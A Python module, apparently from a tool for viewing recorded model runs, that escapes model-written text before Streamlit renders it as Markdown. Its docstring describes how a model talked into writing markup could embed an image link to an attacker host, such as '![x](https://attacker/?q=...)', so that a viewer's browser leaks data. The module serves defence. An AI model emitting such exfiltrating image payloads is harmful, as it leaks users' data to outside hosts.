"""What a run says, shown as text: never as markup, never as something to fetch.

Everything a cassette or the runs database holds (model text, thinking, a user's message,
tool names, arguments and results, image URLs, a ``recorder.ask`` question, labels, error
messages, run ids) was written by a model, a tool or whoever made the file, and a model
can be talked into writing markup. Streamlit renders Markdown in ``st.markdown`` and in
most of its other strings (captions, alerts, titles, the labels of buttons, expanders and
other widgets, tooltips), and Markdown can embed images: ``![x](https://attacker/?q=...)``
in a reply would make the browser of whoever opens the run fetch that address, with
whatever the model put in it.

So the pages follow one rule, checked by a test that reads their source: a string that
Streamlit renders as Markdown is either a literal written here, or made by :func:`md`,
which puts every value into its template as literal text (each ASCII punctuation
character backslash-escaped, as CommonMark defines: no emphasis, link, image, HTML, code
span, math or directive can start in it), or as an inline code span (``{:code}``: a
fence longer than any run of backticks in the value, line breaks folded, so the value
cannot close the span). Longer content is laid out by ``st.text``, ``st.code`` and
``st.json``, which parse nothing; an image is shown from its bytes only, and a remote
image's URL as text.

For example ``md("**tool call** {:code} · {}", name, text)`` with the name ``x`y`` and
the text ``![b](http://h/leak)`` shows the words "tool call" in bold, then ``x`y`` in code,
then the text as it is, and fetches nothing.
"""

from __future__ import annotations

import re
import string
from typing import Any

_PUNCTUATION = re.compile("([" + re.escape(string.punctuation) + "])")
_LINE_BREAKS = re.compile(r"\r\n|[\r\n]")
_BACKTICKS = re.compile(r"`+")
_ESCAPED = re.compile(r"\\([" + re.escape(string.punctuation) + "])")


def escape(value: Any) -> str:
    """``value`` as Markdown that renders as exactly its text."""
    text = _LINE_BREAKS.sub("\n", str(value))
    return _PUNCTUATION.sub(r"\\\1", text)


def unescape(markdown: str) -> str:
    """What :func:`escape`'d text reads as: ``markdown`` without its backslash escapes."""
    return _ESCAPED.sub(r"\1", markdown)


def code(value: Any) -> str:
    """``value`` as an inline code span that renders as exactly its text (on one line)."""
    text = _LINE_BREAKS.sub(" ", str(value))
    longest = max((len(run) for run in _BACKTICKS.findall(text)), default=0)
    fence = "`" * (longest + 1)
    if not text.strip(" "):
        return escape(text) if text else ""
    if text.startswith("`") or text.endswith("`"):
        text = f" {text} "  # a space each side keeps the fence apart; CommonMark drops it
    return f"{fence}{text}{fence}"


def md(template: str, *values: Any, **named: Any) -> str:
    """The Markdown ``template`` (written here, trusted) with ``values`` as literal text.

    Placeholders are ``str.format``'s: ``{}`` escapes the value, ``{:code}`` makes it an
    inline code span, any other format spec (``{:,}``, ``{:.3f}``) formats and escapes.
    """
    return template.format(*(_Literal(v) for v in values),
                           **{k: _Literal(v) for k, v in named.items()})


class _Literal:
    """A value that formats itself as literal Markdown text."""

    __slots__ = ("value",)

    def __init__(self, value: Any) -> None:
        self.value = value

    def __str__(self) -> str:  # "{!s}"
        return escape(self.value)

    def __repr__(self) -> str:  # "{!r}"
        return escape(repr(self.value))

    def __format__(self, spec: str) -> str:
        if spec == "code":
            return code(self.value)
        return escape(format(self.value, spec))
